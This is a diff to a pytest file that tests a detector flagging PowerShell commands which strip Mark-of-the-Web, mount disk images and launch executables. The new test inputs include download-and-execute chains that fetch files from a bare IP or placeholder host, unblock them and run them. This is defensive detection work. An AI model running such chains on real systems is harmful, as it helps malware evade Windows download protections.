@@ -7,7 +7,8 @@ from codesignrisk_core.cmdlets import mark_of_web
 
 from tests.core.lines import ids, judged_script
 
-REMOVED, EXPOSED = "mark_of_web_removed", "cleared_and_started"
+REMOVED, EXPOSED, MOUNTED = "mark_of_web_removed", "cleared_and_started", "image_mounted_started"
+BARE = ("cleared_file_fetched", "input_bare_address")
 
 
 @pytest.mark.parametrize(
@@ -23,13 +24,26 @@ REMOVED, EXPOSED = "mark_of_web_removed", "cleared_and_started"
         ("Unblock-File $env:TEMP\\a.zip; Expand-Archive $env:TEMP\\a.zip; & $env:TEMP\\a\\a.exe", [REMOVED, EXPOSED]),
         ("Unblock-File C:\\Users\\ann\\Downloads\\a.iso; Mount-DiskImage C:\\x\\a.iso", [REMOVED, EXPOSED]),
         ("Unblock-File C:\\Users\\ann\\Downloads\\a.psm1; Import-Module C:\\x\\a.psm1", [REMOVED]),
+        # fetched from a host without a name
+        ("iwr http://203.0.113.7/a.zip -OutFile $env:TEMP\\a.zip; Unblock-File $env:TEMP\\a.zip; & $env:TEMP\\a.exe",
+         [REMOVED, EXPOSED, *BARE]),
+        ("iwr https://a.example/a.exe -OutFile $env:TEMP\\a.exe; Unblock-File $env:TEMP\\a.exe; & $env:TEMP\\a.exe",
+         [REMOVED, EXPOSED]),
+        # disk images
+        ("$d = (Mount-DiskImage -ImagePath $env:TEMP\\a.img -PassThru | Get-Volume).DriveLetter; start ($d+':\\a.exe')",
+         [MOUNTED]),
+        ("(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/a', 'C:\\Users\\Public\\a.iso'); "
+         'Mount-DiskImage C:\\Users\\Public\\a.iso; Start-Process "E:\\a.exe"', [MOUNTED, *BARE]),
+        ("Mount-DiskImage \\\\files\\iso\\a.iso; & E:\\setup.exe", []),
+        ("Mount-DiskImage C:\\Users\\ann\\Downloads\\a.iso; & E:\\setup.exe", []),
+        ("Mount-DiskImage $env:TEMP\\a.iso; Copy-Item E:\\a.txt C:\\lab", []),
         # another stream, a look, a dry run
         ("Remove-Item C:\\lab\\a.exe -Stream other", []),
         ("Get-Content C:\\lab\\a.exe -Stream Zone.Identifier", []),
         ("Unblock-File C:\\lab\\a.ps1 -WhatIf", []),
         ("Remove-Item C:\\lab\\a.exe", []),
     ],
-)
+)  # fmt: skip
 def test_marks(text: str, indicators: list[str]) -> None:
     assert ids(judged_script(text)) == indicators
 
